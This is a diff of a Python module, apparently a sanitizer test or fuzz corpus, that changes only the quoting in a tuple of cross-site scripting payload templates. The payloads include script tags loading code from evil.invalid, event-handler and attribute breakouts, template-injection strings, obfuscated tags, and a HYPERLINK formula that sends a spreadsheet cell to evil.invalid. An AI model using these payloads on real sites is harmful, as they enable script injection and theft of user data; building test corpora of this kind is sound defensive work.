@@ -8,8 +8,8 @@ SHAPES = (
     "<script src='https://evil.invalid/x.js'></script><script>{c}</script>",
     "<img src=x onerror={c}>",
     "<img src='https://evil.invalid/p.png' onload='{c}'>",
-    "\"><script>{c}</script>",
-    "'><img src=x onerror=\"{c}\">",
+    '"><script>{c}</script>',
+    '\'><img src=x onerror="{c}">',
     "</title><script>{c}</script>",
     "</style><script>{c}</script>",
     "</script><script>{c}</script>",
@@ -33,7 +33,7 @@ SHAPES = (
     "<link rel=stylesheet href='https://evil.invalid/x.css'><style>@import 'https://evil.invalid/y.css';</style>{c}",
     "<form action='javascript:{c}'><button autofocus>x</button></form>",
     "javascript:{c}",
-    "\" onmouseover=\"{c}\" autofocus onfocus=\"{c}\" x=\"",
+    '" onmouseover="{c}" autofocus onfocus="{c}" x="',
     "' onfocus='{c}' autofocus='",
     "{{{{constructor.constructor('{c}')()}}}}",
     "${{{c}}}`;{c};//",
@@ -42,7 +42,7 @@ SHAPES = (
     "\u202e<script>{c}</script>\x00\x1b[2J",
     "&lt;script&gt;{c}&lt;/script&gt;<script>{c}</script>",
     "<scr\x00ipt>{c}</scr\x00ipt><script>{c}</script>",
-    "=HYPERLINK(\"https://evil.invalid?x=\"&A1)<script>{c}</script>",
+    '=HYPERLINK("https://evil.invalid?x="&A1)<script>{c}</script>',
     "]]>\"'><template><script>{c}</script></template><script>{c}</script>",
 )
 PAYLOADS = tuple(shape.format(c=call) for call in CALLS for shape in SHAPES)
